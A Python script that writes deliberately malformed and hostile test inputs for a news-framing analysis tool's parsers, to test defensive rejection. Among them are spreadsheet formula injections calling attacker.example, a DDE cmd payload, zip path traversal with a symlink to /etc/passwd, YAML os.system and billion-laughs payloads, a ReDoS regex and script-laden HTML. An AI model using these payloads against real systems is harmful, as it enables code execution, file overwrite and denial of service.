"""Write the bad inputs of ``tests/bad_inputs/`` (run from anywhere: ``python make.py``).

Every file is small and written byte for byte the same on every run, so the
folder is committed and this script documents how each file was made. The
huge inputs (an enormous line, a zip bomb, a file over the size limit) are
made at test time in a temporary folder instead: see ``tests/test_bad_inputs.py``.

The articles are our own sentences, in English, French and Arabic.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from datetime import datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
ZIP_TIME = (2026, 1, 1, 0, 0, 0)

GOOD_ARTICLE = """\
Morocco and Saudi Arabia sign a security cooperation plan

Rabat, 12 February 2026 - The director general of national security met his Saudi \
counterpart in Riyadh on Wednesday to discuss training programmes and the exchange of \
information on criminal networks.

Officials from both delegations said the plan covers cyber security, border control and \
the protection of major sporting events.

Analysts describe the visit as a sign that Rabat wants to present itself as a provider \
of security expertise in the region.
"""

FRENCH_ARTICLE = """\
Le Maroc et le Sénégal renforcent leur coopération policière

Dakar, le 3 mars 2026 - Une délégation de la police marocaine a présenté mardi un \
programme de formation destiné aux cadres sénégalais chargés de la lutte contre la \
cybercriminalité.

Selon le communiqué publié à l'issue de la réunion, les deux pays prévoient aussi des \
exercices communs avant la saison touristique.
"""

ARABIC_ARTICLE = """\
المغرب وإسبانيا يعززان التعاون في مراقبة الحدود

الرباط - عقد مسؤولون أمنيون من البلدين اجتماعا يوم الخميس لبحث تبادل المعلومات حول \
شبكات تهريب المهاجرين.

وأكد بيان مشترك أن الجانبين سيواصلان تنظيم دوريات مشتركة خلال فصل الصيف.
"""

MOJIBAKE_SOURCE = """\
L'accord de sécurité signé à Rabat divise les commentateurs

Rabat, le 20 janvier 2026 - Le texte prévoit l'échange de données entre les services \
de police et la création d'une cellule commune contre le trafic de stupéfiants.

Plusieurs éditorialistes saluent un partenariat équilibré, d'autres réclament plus de \
transparence sur les garanties accordées aux citoyens.
"""

HTML_WITH_SCRIPTS = """\
<!DOCTYPE html>
<html lang="en">
<head>
<title>Border agencies test a shared alert system</title>
<script>var tracker = "PAYLOAD_HEAD_SCRIPT"; document.cookie = "x=1";</script>
<style>p { color: red } /* PAYLOAD_STYLE */</style>
</head>
<body>
<article>
<h1>Border agencies test a shared alert system</h1>
<p>Tangier, 5 April 2026 - Customs and police officers from Morocco and Spain ran a joint
exercise this week to test a shared alert system for stolen vehicles crossing the Strait.</p>
<script>document.write("<p>PAYLOAD_BODY_SCRIPT</p>");</script>
<noscript><p>PAYLOAD_NOSCRIPT</p></noscript>
<template><p>PAYLOAD_TEMPLATE</p></template>
<p onclick="alert('PAYLOAD_ATTRIBUTE')">The organisers said the system cut the time needed
to circulate a vehicle description from several hours to a few minutes.</p>
<!-- PAYLOAD_COMMENT -->
<svg><script>PAYLOAD_SVG_SCRIPT</script></svg>
<iframe srcdoc="&lt;p&gt;PAYLOAD_IFRAME&lt;/p&gt;"></iframe>
<p>A second exercise is planned before the summer crossing season, when traffic through
the port of Tangier Med reaches its peak.</p>
</article>
</body>
</html>
"""

HTML_LISTING = """\
<!DOCTYPE html>
<html lang="fr"><head><title>Archives - Sécurité</title></head>
<body>
<nav><a href="/">Accueil</a> <a href="/securite/">Sécurité</a></nav>
<ul>
<li><a href="/a1">Coopération policière avec le Sénégal</a></li>
<li><a href="/a2">Un exercice commun à Tanger</a></li>
<li><a href="/a3">Le bilan annuel de la sûreté nationale</a></li>
<li><a href="/a4">Formation des cadres africains à Rabat</a></li>
</ul>
<p><a href="/page/2">Page suivante</a></p>
</body></html>
"""


def wordpress_post() -> dict:
    return {
        "id": 7301,
        "date": "2026-02-11T15:35:40",
        "link": "https://example.ma/en/security/riyadh-visit/",
        "title": {"rendered": "A visit to Riyadh opens a new chapter"},
        "content": {
            "rendered": "<p>Rabat &#8211; The visit of the director general to Riyadh "
            "was presented as the start of a long-term partnership on training.</p>"
            "<p>Both sides agreed to share expertise on the security of large events, "
            "from football tournaments to religious pilgrimages.</p>",
            "protected": False,
        },
    }


def zip_bytes(members: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    """A zip archive with fixed timestamps, so the file is the same on every run."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


def symlink_info(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, ZIP_TIME)
    info.create_system = 3  # Unix, so the mode bits below are read
    info.external_attr = 0o120777 << 16  # a symbolic link
    return info


def xlsx_with_formulas() -> bytes:
    """A workbook whose cells hold formulas (made with openpyxl, timestamps fixed)."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["title", "text", "outlet"])
    sheet.append(
        [
            "Visit to Riyadh",
            GOOD_ARTICLE.split("\n\n")[1],
            '=HYPERLINK("http://attacker.example","open")',
        ]
    )
    sheet.append(["=1+1", '=CONCATENATE("security ","cooperation")', "Le Matin"])
    workbook.properties.created = workbook.properties.modified = datetime(2026, 1, 1)
    raw = io.BytesIO()
    workbook.save(raw)
    with zipfile.ZipFile(io.BytesIO(raw.getvalue())) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    # openpyxl stamps the time of saving: fix it so the file is the same on every run.
    stamp = re.compile(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(</dcterms:)")
    members = [
        (name, stamp.sub(rb"\g<1>2026-01-01T00:00:00Z\g<2>", data)) for name, data in members
    ]
    return zip_bytes(members)


def articles() -> dict[str, bytes]:
    """Article inputs: each is skipped with a reason, or read as the README table says."""
    post = json.dumps(wordpress_post(), indent=1, ensure_ascii=False)
    protected = dict(wordpress_post(), content={"rendered": "", "protected": True})
    deep = '{"title": "Deep", "text": "Nested comments.", "comments": '
    deep += "[" * 200 + '"reply"' + "]" * 200 + "}"
    french = FRENCH_ARTICLE.split("\n\n")
    jsonl = "\n".join(
        [
            json.dumps(
                {
                    "title": french[0],
                    "text": "\n\n".join(french[1:]).strip(),
                    "outlet": "Le Quotidien",
                    "date": "2026-03-04",
                },
                ensure_ascii=False,
            ),
            '{"title": "Une visite à Dakar", "text": "La délégation marocaine a',
            '["not", "an", "article"]',
        ]
    )
    good_rows = [
        '"Tangier hosts a customs workshop","Customs officers from five countries met in '
        'Tangier to compare methods for detecting counterfeit goods.","Tanger Info"',
        '"Rabat trains police cadets from Niger","Twenty cadets from Niger began a '
        'six-month course at the police academy in Kenitra this week.","Le Matin"',
    ]
    formulas = (
        "title,text,outlet,note\n"
        '"=HYPERLINK(""http://attacker.example/?q=""&A1,""Click here"")",'
        '"The ministry published its annual report on road safety, which records a fall in '
        'accidents on motorways.","Hespress English","@SUM(1+1)*cmd|\' /C calc\'!A0"\n'
        '"Fire drills in schools","-2 is not a formula here: pupils in Fes practised an '
        'evacuation drill on Monday morning.","Le Matin","+33 5 55 55 55 55"\n'
    )
    unreadable = bytes(0xC0 + (i * 37) % 64 for i in range(300))
    unreadable = b" ".join(unreadable[i : i + 6] for i in range(0, 300, 6))
    mojibake = MOJIBAKE_SOURCE.encode("utf-8").decode("cp1252").encode("utf-8")
    inner = zip_bytes([("story.txt", GOOD_ARTICLE.replace("Riyadh", "Jeddah").encode())])
    traversal = zip_bytes(
        [
            ("../evil.txt", b"This member tries to climb out of the extraction folder.\n"),
            ("/tmp/absolute.txt", b"This member has an absolute path.\n"),
            ("inside/visite_dakar.txt", FRENCH_ARTICLE.encode("utf-8")),
            ("inside/inner.zip", inner),
            (symlink_info("inside/passwords"), b"/etc/passwd"),
            ("inside/.DS_Store", b"\x00\x00\x00\x01Bud1"),
            ("__MACOSX/inside/._visite_dakar.txt", b"\x00\x05\x16\x07"),
        ]
    )
    complete = zip_bytes([("story.txt", GOOD_ARTICLE.encode())])
    return {
        "wordpress_truncated.json": post[: len(post) * 3 // 5].encode("utf-8"),
        "wordpress_protected_post.json": json.dumps(protected).encode(),
        "jsonl_bad_lines.jsonl": jsonl.encode("utf-8"),
        "deep_nested.json": deep.encode(),
        "csv_unclosed_quote.csv": (
            "title,text,outlet\n"
            + good_rows[0]
            + "\n"
            + '"Police and fans","The quote of this cell is never closed.,"Le Matin"\n'
            + good_rows[1]
            + "\n"
        ).encode(),
        "csv_no_text_column.csv": b"name,city,year\nAmina,Rabat,2026\nYoussef,Fes,2025\n",
        "csv_formulas.csv": formulas.encode("utf-8"),
        "html_scripts.html": HTML_WITH_SCRIPTS.encode("utf-8"),
        "html_listing.html": HTML_LISTING.encode("utf-8"),
        "text_nul_bytes.txt": b"Rabat\x00\x00\x00security\x00\x00cooperation\x00" * 4,
        "text_bad_utf8_bom.txt": b"\xef\xbb\xbfRabat: the director \xff\xfe arrived.\n",
        "text_unreadable_encoding.txt": unreadable,
        "text_windows_1256.txt": ARABIC_ARTICLE.encode("cp1256"),
        "text_mojibake.txt": mojibake,
        "text_empty.txt": b"  \n\n \t\n",
        "text_pdf_renamed.txt": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\n",
        "sheet_with_formulas.xlsx": xlsx_with_formulas(),
        "archive_traversal.zip": traversal,
        "archive_truncated.zip": complete[: len(complete) // 2],
    }


LAUGHS = "".join(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]\n" for i in range(1, 10))
BILLION_LAUGHS = (
    'l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n' + LAUGHS
)


def deep_yaml(levels: int) -> str:
    lines = [f"{'  ' * i}level{i}:" for i in range(levels)]
    return "\n".join(lines) + f" {'x'}\n"


LEXICON_HEAD = "name: bad\nversion: '1.0'\nlanguages: [en]\nframes:\n"


def lexicons() -> dict[str, bytes]:
    """Lexicon files refused by ``framing lexicon validate`` and :func:`load_lexicon`."""
    redos = (
        LEXICON_HEAD
        + "  - id: threat\n    label: Threat\n    entries:\n"
        + "      en: [terrorism, {regex: '(?:counter)?(terror\\w*)+'}]\n"
    )
    return {
        "billion_laughs.yaml": BILLION_LAUGHS.encode(),
        "deep_nesting.yaml": deep_yaml(40).encode(),
        "python_tag.yaml": (
            LEXICON_HEAD + "  - !!python/object/apply:os.system ['echo owned']\n"
        ).encode(),
        "redos_regex.yaml": redos.encode(),
        "not_utf8.yaml": (LEXICON_HEAD + "  - id: securite\n    label: Sécurité\n").encode(
            "latin-1"
        ),
        "truncated.yaml": (
            LEXICON_HEAD
            + "  - id: threat\n    label: Threat\n    entries:\n      en: [terror*, 'armed gr"
        ).encode(),
    }


EXPERIMENT_HEAD = "name: bad_experiment\ninputs:\n  paths: [articles]\nlexicons: [lexicon.yaml]\n"


def experiments() -> dict[str, bytes]:
    """Experiment files refused by :func:`load_experiment` (and ``framing run``)."""
    return {
        "billion_laughs.yaml": (
            EXPERIMENT_HEAD
            + "extra:\n"
            + "".join("  " + line + "\n" for line in BILLION_LAUGHS.splitlines())
        ).encode(),
        "deep_nesting.yaml": deep_yaml(40).encode(),
        "python_tag.yaml": (
            EXPERIMENT_HEAD + "seed: !!python/object/apply:os.system ['echo owned']\n"
        ).encode(),
        "not_utf8.yaml": (EXPERIMENT_HEAD + "description: Sécurité\n").encode("latin-1"),
        "huge_number.yaml": (EXPERIMENT_HEAD + "seed: " + "9" * 5000 + "\n").encode(),
    }


def manifests() -> dict[str, bytes]:
    """Manifests for ``good_article.txt`` (the paths are relative to this folder)."""
    return {
        "formula_manifest.csv": (
            b"file,outlet,language,note\n"
            b'../good_article.txt,Hespress English,en,"=HYPERLINK(""http://attacker.example"",""open"")"\n'
        ),
        "misspelt_column.csv": b"file,outlet,languge\n../good_article.txt,Hespress English,en\n",
        "broken_quote.csv": b'file,outlet,note\n../good_article.txt,"Le Matin,first\n',
    }


def write_all(root: Path = HERE) -> list[Path]:
    """Write every file; return their paths."""
    written = []
    groups = {
        "articles": articles(),
        "lexicons": lexicons(),
        "experiments": experiments(),
        "manifests": manifests(),
    }
    for folder, files in groups.items():
        (root / folder).mkdir(exist_ok=True)
        for name, data in files.items():
            path = root / folder / name
            path.write_bytes(data)
            written.append(path)
    good = root / "good_article.txt"
    good.write_bytes(GOOD_ARTICLE.encode("utf-8"))
    written.append(good)
    return written


if __name__ == "__main__":
    for path in write_all():
        print(path.relative_to(HERE), path.stat().st_size)
